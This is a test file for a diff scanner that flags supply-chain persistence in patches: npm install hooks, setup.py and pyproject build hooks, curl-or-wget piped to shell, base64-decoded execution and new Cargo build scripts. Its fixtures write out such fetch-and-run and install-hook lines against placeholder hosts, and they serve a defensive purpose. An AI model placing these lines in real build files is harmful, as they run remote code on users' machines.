import { describe, expect, it } from 'vitest';
import type { DiffFile } from '../../evidence/types.js';
import { persistenceFromPatch } from './persistence-patch.js';

const patchOf = (file: string, body: string[], start = 1) =>
  [
    `diff --git a/${file} b/${file}`,
    'index 1111111..2222222 100644',
    `--- a/${file}`,
    `+++ b/${file}`,
    `@@ -${start},${body.filter((l) => !l.startsWith('+')).length} +${start},${body.filter((l) => !l.startsWith('-')).length} @@`,
    ...body,
  ].join('\n');

describe('persistenceFromPatch', () => {
  it('finds an npm lifecycle hook in the added lines of package.json, with its new line number', () => {
    const patch = patchOf(
      'package.json',
      [' {', '   "scripts": {', '+    "postinstall": "node x.js",', '     "test": "vitest"'],
      3,
    );
    expect(persistenceFromPatch(patch)).toEqual([
      { file: 'package.json', line: 5, finding: 'install-hook', text: '"postinstall": "node x.js",' },
    ]);
  });

  it('names a file git quoted (octal bytes) as diff.json does: UTF-8, U+FFFD for a byte that is not', () => {
    const patch = [
      'diff --git "a/caf\\303\\251/package.json" "b/caf\\303\\251/package.json"',
      '--- /dev/null',
      '+++ "b/caf\\303\\251/package.json"',
      '@@ -0,0 +1 @@',
      '+{"scripts": {"postinstall": "node x.js"}}',
      'diff --git "a/x\\377/package.json" "b/x\\377/package.json"',
      '--- /dev/null',
      '+++ "b/x\\377/package.json"',
      '@@ -0,0 +1 @@',
      '+{"scripts": {"preinstall": "node y.js"}}',
    ].join('\n');
    expect(persistenceFromPatch(patch).map((f) => f.file)).toEqual([
      'café/package.json',
      'x\uFFFD/package.json',
    ]);
  });

  it('ignores hooks that were already there (context or removed lines)', () => {
    const patch = patchOf('package.json', [
      '   "scripts": {',
      '-    "postinstall": "old",',
      '     "prepare": "husky",',
      '+    "test": "vitest"',
    ]);
    expect(persistenceFromPatch(patch)).toEqual([]);
  });

  it('finds setup.py cmdclass and install-time code, pyproject build hooks', () => {
    const setup = patchOf('setup.py', [
      ' from setuptools import setup',
      '+class Post(install):',
      '+    def run(self): os.system("id")',
      '+setup(cmdclass={"install": Post})',
    ]);
    expect(persistenceFromPatch(setup).map((f) => [f.line, f.finding])).toEqual([
      [2, 'install-hook'],
      [3, 'install-hook'],
      [4, 'install-hook'],
    ]);
    const py = patchOf('pyproject.toml', [
      ' [project]',
      '+[tool.hatch.build.hooks.custom]',
      '+path = "hook.py"',
    ]);
    expect(persistenceFromPatch(py).map((f) => f.finding)).toEqual(['install-hook']);
  });

  it('finds curl | sh, wget | bash, process substitution and base64-decoded execution in build files', () => {
    const make = patchOf('Makefile', [
      ' all:',
      '+\tcurl -fsSL https://x.example/i.sh | sh',
      '+\twget -qO- https://x.example/i | sudo bash',
      '+\tbash <(curl -s https://x.example)',
      '+\techo aWQK | base64 -d | sh',
      "+\tpython3 -c \"exec(__import__('base64').b64decode('aWQK'))\"",
      '+\tcurl -o vendor.tgz https://x.example/vendor.tgz',
    ]);
    expect(persistenceFromPatch(make).map((f) => [f.line, f.finding])).toEqual([
      [2, 'pipe-to-shell'],
      [3, 'pipe-to-shell'],
      [4, 'pipe-to-shell'],
      [5, 'encoded-exec'],
      [6, 'encoded-exec'],
    ]);
    const pkg = patchOf('tools/package.json', ['+    "prepare": "curl -s https://x.example | sh"']);
    expect(
      persistenceFromPatch(pkg)
        .map((f) => f.finding)
        .sort(),
    ).toEqual(['install-hook', 'pipe-to-shell']);
  });

  it('leaves files whose path says enough to the path rules, and documentation alone', () => {
    const readme = patchOf('README.md', ['+curl -fsSL https://get.example | sh']);
    const script = patchOf('scripts/setup.sh', ['+curl -fsSL https://get.example | sh']);
    expect(persistenceFromPatch(`${readme}\n${script}`)).toEqual([]);
  });

  it('handles several files, new files and deleted files in one patch', () => {
    const added = [
      'diff --git a/Makefile b/Makefile',
      'new file mode 100644',
      '--- /dev/null',
      '+++ b/Makefile',
      '@@ -0,0 +1,2 @@',
      '+x:',
      '+\tcurl https://a | sh',
    ].join('\n');
    const deleted = [
      'diff --git a/setup.py b/setup.py',
      'deleted file mode 100644',
      '--- a/setup.py',
      '+++ /dev/null',
      '@@ -1 +0,0 @@',
      '-setup(cmdclass={})',
    ].join('\n');
    const pkg = patchOf('package.json', ['+"preinstall": "x"']);
    expect(
      persistenceFromPatch([added, deleted, pkg].join('\n')).map((f) => `${f.file}:${f.line}:${f.finding}`),
    ).toEqual(['Makefile:2:pipe-to-shell', 'package.json:1:install-hook']);
  });

  it('reports a new Cargo build script as a whole-file finding', () => {
    const files: DiffFile[] = [{ path: 'build.rs', status: 'added', added: 3, deleted: 0, binary: false }];
    expect(persistenceFromPatch('', files)).toEqual([
      {
        file: 'build.rs',
        line: 0,
        finding: 'install-hook',
        text: 'new Cargo build script (runs on every build)',
      },
    ]);
  });
});
